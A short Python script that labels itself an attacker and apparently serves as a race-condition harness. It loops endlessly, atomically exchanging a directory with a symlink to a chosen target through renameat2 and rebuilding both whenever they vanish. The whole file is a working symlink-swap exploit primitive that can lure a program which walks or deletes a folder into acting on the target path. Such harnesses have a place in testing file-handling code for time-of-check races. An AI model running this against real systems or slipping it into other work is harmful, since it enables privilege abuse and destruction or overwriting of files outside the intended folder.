"""An attacker: exchanges a folder and a link for ever, and makes them again when they are gone."""
import ctypes, os, sys
folder, link, target = sys.argv[1:]
libc = ctypes.CDLL(None)
exchange = lambda: libc.renameat2(-100, folder.encode(), -100, link.encode(), 2)

def attempt(act, *given):
    try:
        act(*given)
    except OSError:
        pass

def again():
    if os.path.islink(folder) and os.path.islink(link):
        attempt(os.unlink, link)
    attempt(os.mkdir, folder)
    for name in ('one', 'two'):
        attempt(os.mkdir, '%s/%s' % (folder, name))
        attempt(lambda: open('%s/%s/file' % (folder, name), 'w').close())
    if os.path.isdir(link) and not os.path.islink(link) and not os.path.islink(folder):
        attempt(os.rename, link, '%s.%d' % (link, os.getpid()))
    attempt(os.symlink, target, link)

again()
print('ready', flush=True)
swaps = 0
while True:
    if exchange() != 0:
        again()
    swaps += 1
    if swaps % 1000 == 0:
        print(swaps, flush=True)
